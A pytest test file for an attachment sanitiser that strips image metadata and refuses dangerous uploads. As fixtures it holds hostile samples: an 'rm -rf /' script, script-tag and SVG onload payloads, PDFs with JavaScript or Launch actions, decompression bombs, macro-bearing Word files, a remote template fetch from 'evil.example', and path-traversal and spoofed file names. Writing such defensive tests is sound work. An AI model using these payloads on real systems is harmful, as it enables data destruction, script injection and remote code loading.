"""Attachments: what is taken, what is cleaned out of it, and what is refused with which words."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

import pytest
from docx import Document
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from langnghe.attachments import DOCX, checked
from langnghe.refused import AttachmentRefused
from storage import attachments

MOST = 10 * 2**20
SECRET = b"Xiaomi-cua-toi"
PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def picture(form: str, size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, "green")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    image.save(out, form, **save)
    return out.getvalue()


def with_position(form: str) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif[0x0112] = 6  # to be turned by a quarter
    exif.get_ifd(0x8825).update({1: "N", 2: (10.0, 14.0, 28.0), 3: "E", 4: (106.0, 22.0, 0.0)})
    return picture(form, exif=exif)


def packed(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, part in parts.items():
            target.writestr(name, part)
    return out.getvalue()


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        return {name: source.read(name) for name in source.namelist()}


def document(**over: bytes) -> bytes:
    made = Document()
    made.core_properties.author = SECRET.decode()
    made.add_paragraph("Biên bản kiểm tra bờ kênh")
    made.add_picture(io.BytesIO(with_position("JPEG")))
    out = io.BytesIO()
    made.save(out)
    return packed(parts_of(out.getvalue()) | over)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_picture_loses_position_camera_and_hidden_parts(form: str) -> None:
    given = with_position(form) + b"<script>alert(1)</script>" + SECRET
    assert SECRET in given

    kept = checked("../../etc/ảnh  bờ\nkênh.php", given, MOST)

    assert (kept.name, kept.media_type) == (
        f"ảnh bờ kênh.{ {'JPEG': 'jpg'}.get(form, form.lower()) }",
        f"image/{form.lower()}",
    )
    assert SECRET not in kept.content
    assert b"script" not in kept.content
    with Image.open(io.BytesIO(kept.content)) as image:
        assert (image.format, image.size) == (form, (48, 64)), "turned upright"
        assert dict(image.getexif()) == {}
        assert {"exif", "xmp", "icc_profile", "comment"} & set(image.info) == set()


def test_picture_keeps_transparency_and_loses_notes() -> None:
    notes = PngInfo()
    notes.add_text("Author", SECRET.decode())
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (255, 0, 0, 0)).save(out, "PNG", pnginfo=notes)

    kept = checked("a.png", out.getvalue(), MOST)

    assert SECRET not in kept.content
    with Image.open(io.BytesIO(kept.content)) as image:
        assert image.mode == "RGBA"
        assert image.getpixel((3, 3)) == (255, 0, 0, 0)


def test_large_picture_is_made_smaller_and_a_bomb_is_not_opened() -> None:
    large = checked("a.jpg", picture("JPEG", (6000, 4500)), MOST)
    with Image.open(io.BytesIO(large.content)) as image:
        assert image.size == (4000, 3000)

    raw = zlib.compress(b"\x00" * 2**20)
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in ((b"IHDR", head), (b"IDAT", raw), (b"IEND", b""))
    )
    tracemalloc.start()
    with pytest.raises(AttachmentRefused, match="quá nhiều điểm ảnh"):
        checked("a.png", bomb, MOST)
    assert tracemalloc.get_traced_memory()[1] < 5 * 2**20
    tracemalloc.stop()


def test_pdf_and_document_are_taken() -> None:
    assert checked("Báo cáo.pdf", PDF, MOST).content == PDF
    assert checked("báo cáo", PDF, MOST).name == "báo cáo.pdf"

    kept = checked("Biên bản.docx", document(), MOST)

    assert (kept.name, kept.media_type) == ("Biên bản.docx", DOCX)
    assert SECRET not in b"".join(parts_of(kept.content).values())
    again = Document(io.BytesIO(kept.content))
    assert next(line.text for line in again.paragraphs) == "Biên bản kiểm tra bờ kênh"
    assert again.core_properties.author == ""
    assert len(again.inline_shapes) == 1


HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
FETCH = b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
HIDDEN = b"<</Type/ObjStm/Filter/FlateDecode/N 1>>\nstream\n%s\nendstream\n"
REFUSED = {
    "empty": (b"", "Tệp rỗng"),
    "large": (b"\xff\xd8\xff" + b"\x00" * MOST, "lớn hơn 10 MB"),
    "windows program": (b"MZ\x90\x00" + b"\x00" * 600, "chương trình"),
    "linux program": (b"\x7fELF\x02" + b"\x00" * 600, "chương trình"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "chương trình"),
    "page": (b"\n <!doctype html><script>alert(1)</script>", "Trang web và ảnh SVG"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "Trang web và ảnh SVG"),
    "xml": (b'<?xml version="1.0"?><svg/>', "Trang web và ảnh SVG"),
    "heic": (HEIC, "Ảnh HEIC và video chưa nhận được"),
    "old word": (OLD_WORD, ".docx"),
    "text": ("Kính gửi".encode(), "Chỉ nhận ảnh"),
    "gif": (picture("GIF"), "Chỉ nhận ảnh"),
    "tiff": (picture("TIFF"), "Chỉ nhận ảnh"),
    "rar": (b"Rar!\x1a\x07\x00" + b"\x00" * 60, "Chỉ nhận ảnh"),
    "cut picture": (picture("JPEG", (400, 400))[:900], "Ảnh hỏng"),
    "picture in name only": (b"\xff\xd8\xff" + b"MZ" * 400, "Ảnh hỏng"),
    "broken webp": (b"RIFF\x10\x00\x00\x00WEBPVP8 \x00\x00", "Ảnh hỏng"),
    "cut pdf": (PDF[:-7], "PDF hỏng"),
    "locked pdf": (PDF.replace(b"/Root", b"/Encrypt 2 0 R/Root"), "mật khẩu"),
    "pdf with script": (
        PDF.replace(b"/Type", b"/OpenAction<</S/JavaScript/JS(x)>>/Type"),
        "mã lệnh",
    ),
    "pdf with written script": (PDF.replace(b"/Type", b"/A<</S/J#61vaScript>>/Type"), "mã lệnh"),
    "pdf that starts programs": (PDF.replace(b"/Type", b"/A<</S/Launch/F(cmd)>>/Type"), "mã lệnh"),
    "pdf with a file": (PDF.replace(b"/Type", b"/Names<</EmbeddedFiles 3 0 R>>/Type"), "mã lệnh"),
    "pdf with hidden script": (
        PDF.replace(
            b"trailer", HIDDEN % zlib.compress(b"1 0 <</S/JavaScript/JS(x)>>") + b"trailer"
        ),
        "mã lệnh",
    ),
    "pdf bomb": (
        PDF.replace(b"trailer", HIDDEN % zlib.compress(b"\x00" * 40 * 2**20) + b"trailer"),
        "phình quá lớn",
    ),
    "zip": (packed({"a.txt": b"a"}), "Tệp nén không nhận"),
    "jar": (packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe\xba\xbe"}), "Tệp nén"),
    "macros": (document(**{"word/vbaProject.bin": OLD_WORD}), "macro"),
    "macros under another name": (
        document(
            **{
                "[Content_Types].xml": b'<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>'
            }
        ),
        "macro",
    ),
    "embedded file": (document(**{"word/embeddings/oleObject1.bin": OLD_WORD}), "macro"),
    "program within": (document(**{"word/media/a.exe": b"MZ"}), "macro"),
    "fetched template": (document(**{"word/_rels/settings.xml.rels": FETCH}), "nơi khác"),
    "broken picture within": (document(**{"word/media/image9.jpg": b"\xff\xd8\xff"}), "Ảnh hỏng"),
    "zip bomb": (document(**{"word/x.xml": b"\x00" * 60 * 2**20}), "phình quá lớn"),
    "many parts": (document(**{f"word/{n}.xml": b"x" for n in range(2100)}), "phình quá lớn"),
    "cut document": (document()[:-900], "Word hỏng"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_may_harm_is_refused_with_a_reason(what: str) -> None:
    content, reason = REFUSED[what]
    with pytest.raises(AttachmentRefused, match=reason):
        checked("ảnh.jpg", content, MOST)


def test_part_that_lies_about_its_size_is_not_believed() -> None:
    """A part of 90 MB that claims one byte in every header of the archive."""
    big = document(**{"word/x.xml": b"\x00" * 90 * 2**20})
    size = struct.pack("<I", 90 * 2**20)
    assert big.count(size) == 2
    liar = big.replace(size, struct.pack("<I", 1))

    tracemalloc.start()
    with pytest.raises(AttachmentRefused, match=r"hỏng|phình"):
        checked("a.docx", liar, MOST)
    assert tracemalloc.get_traced_memory()[1] < 200 * 2**20
    tracemalloc.stop()


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("C:\\Users\\x\\anh.jpg", "anh.pdf"),
        ("../../../etc/passwd", "passwd.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("a\r\nX: y.pdf", "a X: y.pdf"),
        ("\u202egpj.exe", "gpj.pdf"),
        ("", "tệp.pdf"),
        ("...", "tệp.pdf"),
        ("x" * 300 + ".pdf", "x" * 80 + "….pdf"),
    ],
)
def test_name_is_one_harmless_line_with_the_true_suffix(given: str, shown: str) -> None:
    assert checked(given, PDF, MOST).name == shown


def test_bytes_are_kept_once_whole_and_for_nobody_else(tmp_path: Path) -> None:
    first = attachments.put(tmp_path, PDF)
    second = attachments.put(tmp_path, PDF)
    other = attachments.put(tmp_path, PDF + b"\n")

    assert first == second != other
    path = attachments.path_of(tmp_path, first)
    assert path.read_bytes() == PDF
    assert path.stat().st_mode & 0o777 == 0o600
    assert sorted(one for one in tmp_path.rglob("*") if one.is_file()) == sorted(
        attachments.path_of(tmp_path, name) for name in (first, other)
    )
